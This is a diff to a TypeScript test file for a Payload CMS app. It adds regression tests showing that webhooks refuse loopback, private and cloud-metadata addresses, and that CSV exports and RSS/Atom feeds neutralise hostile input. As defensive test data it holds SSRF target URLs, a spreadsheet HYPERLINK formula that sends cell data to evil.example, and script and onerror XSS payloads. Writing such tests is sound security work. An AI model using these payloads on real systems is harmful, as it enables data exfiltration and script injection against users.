@@ -2,12 +2,15 @@
  * The trust boundary an outside probe tested (issue #13): each case here failed before the fix,
  * through the REST handler Payload serves and through GraphQL where the probe used it.
  */
+import http from 'node:http'
+import type { AddressInfo } from 'node:net'
 import path from 'node:path'
 import { configToSchema } from '@payloadcms/graphql'
 import { graphql } from 'graphql'
 import { createLocalReq, handleEndpoints, type Payload } from 'payload'
 
 import { createUser, startTestPayload, type TestPayload } from '../helpers/payload'
+import { doc, paragraph, text } from '../helpers/lexical'
 import { createPostingStudy } from '../helpers/studyGroups'
 
 type Json = Record<string, any>
@@ -365,5 +368,115 @@ describe('an operator reaches only the people of their own groups', () => {
     })
     expect((await rest(`/submissions/${submission.id}`, { as: 'otherMemberB' })).body.memberUser).toBeUndefined()
     expect((await rest(`/submissions/${submission.id}`, { as: 'memberB' })).body.memberUser).toBeDefined()
+  })
+})
+
+describe('webhooks reach public addresses only', () => {
+  it.each([
+    'http://127.0.0.1:9/hook',
+    'http://localhost/hook',
+    'http://[::ffff:127.0.0.1]/hook',
+    'http://2130706433/hook',
+    'http://0.0.0.0/hook',
+    'http://169.254.169.254/latest/meta-data',
+    'http://10.0.0.8/hook',
+    'ftp://hooks.example.com/',
+  ])('refuses to register %s, over REST and GraphQL', async (url) => {
+    const response = await rest('/webhooks', {
+      method: 'POST',
+      as: 'editor',
+      json: { url, events: ['publish'], collections: ['posts'], secret: 'sixteen-characters!' },
+    })
+    expect(response.status).toBe(400)
+    expect(JSON.stringify(response.body)).toMatch(/url/i)
+    const graph = await query(
+      `mutation { createWebhook(data: { url: ${JSON.stringify(url)}, events: publish, collections: posts, secret: "sixteen-characters!" }) { id } }`,
+      'editor',
+    )
+    expect(graph.errors?.[0]?.message).toBeDefined()
+    expect(await payload.count({ collection: 'webhooks', where: { url: { equals: url } } })).toEqual({ totalDocs: 0 })
+  })
+
+  it('refuses again at delivery, for a webhook stored before the rule', async () => {
+    const hits: string[] = []
+    const receiver = http.createServer((req, res) => {
+      hits.push(String(req.url))
+      res.writeHead(204).end()
+    })
+    await new Promise<void>((resolve) => receiver.listen(0, '127.0.0.1', resolve))
+    const url = `http://127.0.0.1:${(receiver.address() as AddressInfo).port}/hook`
+    try {
+      // Written past validation, as a row from before this check or a name whose DNS changed.
+      await payload.db.create({
+        collection: 'webhooks',
+        data: { url, events: ['publish'], collections: ['posts'], secret: 'sixteen-characters!', active: true },
+      })
+      await payload.create({ collection: 'posts', data: { title: 'Published for the hook', _status: 'published' } })
+      await payload.jobs.run()
+      const { docs } = await payload.find({ collection: 'webhook-deliveries', sort: '-createdAt', limit: 1 })
+      expect(docs[0]).toMatchObject({ status: 'retrying', lastStatus: null })
+      expect(docs[0].lastError).toMatch(/private or local address/)
+      expect(hits).toEqual([])
+    } finally {
+      await new Promise((resolve) => receiver.close(resolve))
+    }
+  })
+})
+
+describe('exports and feeds carry text, never markup or formulas', () => {
+  it('neutralises formula cells in roster.csv and status.csv', async () => {
+    const study = await createPostingStudy(payload, { name: 'CSV guard', members: 1, weeks: 1 })
+    const formula = '=HYPERLINK("http://evil.example/?x="&C3,"Open")'
+    await payload.update({
+      collection: 'members',
+      id: study.people[0].member.id,
+      data: { displayName: formula, blogUrl: 'https://evil.example/' },
+    })
+    await signIn('csvOperator', study.operator)
+    for (const file of ['roster.csv', 'status.csv']) {
+      const { status, text } = await rawRest(`/cohorts/${study.cohort.id}/${file}`, 'csvOperator', {
+        method: 'GET',
+        body: undefined as never,
+        type: 'text/plain',
+      })
+      expect(status).toBe(200)
+      expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&C3,""Open"")"`)
+      expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m)
+    }
+  })
+
+  it('escapes titles and summaries in RSS and Atom, and gives JSON Feed the plain text', async () => {
+    const excerpt = '<script>alert(3)</script><img src=x onerror=alert(4)> & more'
+    await payload.create({
+      collection: 'posts',
+      data: {
+        title: 'Feed <b>bold</b> title',
+        excerpt,
+        content: doc(paragraph(text('The body.'))) as never,
+        _status: 'published',
+      },
+    })
+    const read = async (url: string) => {
+      const response = await handleEndpoints({
+        config: payload.config,
+        payloadInstanceCacheKey: `file:${path.join(context.dir, 'test.db')}`,
+        request: new Request(`http://localhost:3000/api${url}`),
+      })
+      return response.text()
+    }
+    for (const url of ['/feed.xml', '/atom.xml']) {
+      const xml = await read(url)
+      expect(xml).toContain('&lt;script&gt;alert(3)&lt;/script&gt;&lt;img src=x onerror=alert(4)&gt; &amp; more')
+      expect(xml).not.toContain('<script>')
+      expect(xml).not.toContain('<img src=x')
+    }
+    // Atom titles are `type="html"`; RSS titles are plain text.
+    expect(await read('/atom.xml')).toContain(
+      '<title type="html"><![CDATA[Feed &lt;b&gt;bold&lt;/b&gt; title]]></title>',
+    )
+    expect(await read('/feed.xml')).toContain('<title><![CDATA[Feed <b>bold</b> title]]></title>')
+    const json = JSON.parse(await read('/feed.json'))
+    const item = json.items.find((entry: Json) => entry.title === 'Feed <b>bold</b> title')
+    expect(item.summary).toBe(excerpt)
   })
 })
